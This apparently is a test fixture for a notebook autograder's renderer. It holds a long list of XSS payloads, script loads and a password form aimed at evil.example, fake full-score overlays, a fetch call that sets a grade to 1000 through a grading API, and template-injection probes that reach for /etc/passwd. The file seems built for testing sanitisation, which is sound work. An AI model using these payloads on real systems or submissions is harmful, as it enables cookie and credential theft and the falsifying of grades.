# tries: scripts in markdown, in every way that browsers run them.

# %% markdown after step--hand
<script>alert(document.cookie)</script>
<ScRiPt src="//evil.example/x.js"></ScRiPt>
<img src=x onerror=alert(1)><svg onload=alert(1)><body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe><object data="data:text/html,<script>alert(1)</script>"></object>
<a href="javascript:alert(1)">a link</a> [another](javascript:alert(1)) [third](JaVaScRiPt&colon;alert(1)) <javascript:alert(1)>
<form action="//evil.example"><input name=password></form><meta http-equiv=refresh content="0;url=//evil.example">
<style>body { display: none } .score { content: "100" }</style><link rel=stylesheet href="//evil.example/x.css">
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(//evil.example/x)">Score: 15.0 / 15.0</div>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<noscript><p title="</noscript><img src=x onerror=alert(1)>"><base href="//evil.example/">
$\href{javascript:alert(1)}{x}$ $$\unicode{<img src=x onerror=alert(1)>}$$ ![x](x" onerror="alert(1))
```html
</code></pre><script>alert(3)</script>
```
<details open ontoggle=alert(1)><video><source onerror=alert(1)></video><!-- --!><script>alert(4)</script> -->

# %% answer step
# </pre></div><script>alert(5)</script>
"""</textarea><script>alert(6)</script>"""
def step(a, x_i, w_i):
    return a

# %% markdown after log_bernoulli--fresh
<script>fetch("/formgrader/api/grade", {method: "PUT", body: '{"manual_score": 1000}'})</script>
{% include "/etc/passwd" %} {{ config.items() }} ${7*7} <%= 7*7 %>
# %% edit @4
# The given text, replaced: <script>alert(1)</script>
# %% extra after log_bernoulli--fresh
%%html
<script>alert(1)</script><img src=x onerror=alert(1)>
